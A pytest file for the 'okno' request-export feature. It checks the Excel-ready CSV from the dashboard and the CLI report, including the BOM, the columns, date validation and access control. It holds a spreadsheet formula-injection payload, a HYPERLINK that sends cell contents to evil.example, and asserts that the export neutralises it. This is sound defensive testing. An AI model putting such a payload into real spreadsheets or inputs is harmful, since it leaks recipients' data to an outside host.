"""The requests of a period for Excel: a head downloads them from the dashboard (their group's, or the
company's), a cron job writes the same file with `okno report requests`. The file opens in a Russian Excel
as columns (semicolons, a BOM), and a client's text cannot run there as a formula."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from okno.cli import main
from storage.models import Request
from storage.types import utcnow
from tests.web.conftest import Seeded, SignIn, inbound

pytestmark = pytest.mark.storage
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Счёт")'


def _rows(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # Excel reads the file as UTF-8 only with it
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


async def test_a_head_downloads_the_periods_requests_for_excel(seeded: Seeded, sign_in: SignIn) -> None:
    await inbound(seeded.live, "e-formula", {"id": "formula", "name": "-Хакер"}, FORMULA)
    await seeded.live.drain()
    async with seeded.live.services.db.session() as session:
        own = await session.get(Request, seeded.own_request_id)
        assert own is not None
        own.first_response_at = own.created_at + timedelta(minutes=42)
        own.sla_due_at = own.created_at + timedelta(minutes=30)
        own.status, own.done_at, own.rating, own.rating_comment = "done", utcnow(), 4, "Всё хорошо,\nспасибо"
        old = await session.get(Request, seeded.others_request_id)
        assert old is not None
        old.created_at -= timedelta(days=40)  # opened before the default thirty days
        await session.commit()
    viktor = await sign_in("viktor@example.ru")
    _, dashboard = await viktor.get("/ui/dashboard")
    assert 'id="dash-export"' in dashboard and 'action="/ui/dashboard/requests.csv"' in dashboard
    async with viktor.http.get(f"{seeded.url}/ui/dashboard/requests.csv") as resp:
        assert resp.status == 200 and resp.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert resp.headers["Content-Disposition"].startswith('attachment; filename="okno-requests-')
        rows = _rows(await resp.read())
    assert rows[0][:4] == ["Заявка", "Открыта", "Канал", "Клиент"] and len(rows[0]) == 16
    by_id = {row[0]: row for row in rows[1:]}
    assert str(seeded.others_request_id) not in by_id and len(by_id) == 3
    mine = dict(zip(rows[0], by_id[str(seeded.own_request_id)], strict=True))
    assert mine["Клиент"] == "ООО «Ромашка»" and mine["ИНН"] == "7736207543"
    assert mine["Контакт"] == "Ольга Смирнова" and mine["Ответственный"] == "Анна"
    assert (mine["Статус"], mine["Минут до первого ответа"], mine["Первый ответ по SLA"]) == (
        "Готово",
        "42",
        "просрочен",
    )
    assert mine["Оценка клиента"] == "4" and mine["Отзыв клиента"] == "Всё хорошо, спасибо"
    [formula] = [row for row in rows[1:] if "HYPERLINK" in row[6]]
    assert formula[6] == "'" + FORMULA and formula[5] == "'-Хакер"  # text in Excel, not a formula
    # a period asked for, in English; the other manager's old request is in it
    start = (utcnow() - timedelta(days=45)).date().isoformat()
    async with viktor.http.get(f"{seeded.url}/ui/dashboard/requests.csv?from={start}&lang=en") as resp:
        rows = _rows(await resp.read())
    assert rows[0][0] == "Request" and str(seeded.others_request_id) in {row[0] for row in rows[1:]}
    for query in ("from=2026-13-01", "from=2026-12-10&to=2026-12-01"):
        async with viktor.http.get(f"{seeded.url}/ui/dashboard/requests.csv?{query}") as resp:
            assert resp.status == 400
    anna = await sign_in("anna@example.ru")
    async with anna.http.get(f"{seeded.url}/ui/dashboard/requests.csv") as resp:
        assert resp.status == 403


async def test_okno_report_requests_writes_the_same_file(seeded: Seeded, db_url: str, tmp_path: Path) -> None:
    env = {"OKNO_DATABASE_URL": db_url, "OKNO_DATA_DIR": str(tmp_path / "data")}
    out = tmp_path / "month.csv"
    result = await asyncio.to_thread(
        CliRunner().invoke, main, ["report", "requests", "--out", str(out)], env=env
    )
    assert result.exit_code == 0, result.output
    assert result.output.startswith(f"{out}: 3 requests opened ")
    rows = _rows(out.read_bytes())
    assert rows[0][0] == "Заявка" and len(rows) == 4
    mine = await asyncio.to_thread(
        CliRunner().invoke,
        main,
        ["report", "requests", "--team", "viktor@example.ru", "--out", str(out)],
        env=env,
    )
    assert mine.exit_code == 0 and ": 0 requests" in mine.output  # nobody reports to Виктор
    backwards = await asyncio.to_thread(
        CliRunner().invoke,
        main,
        ["report", "requests", "--from", "2026-12-10", "--to", "2026-12-01"],
        env=env,
    )
    assert backwards.exit_code == 2 and "is after --to" in backwards.output
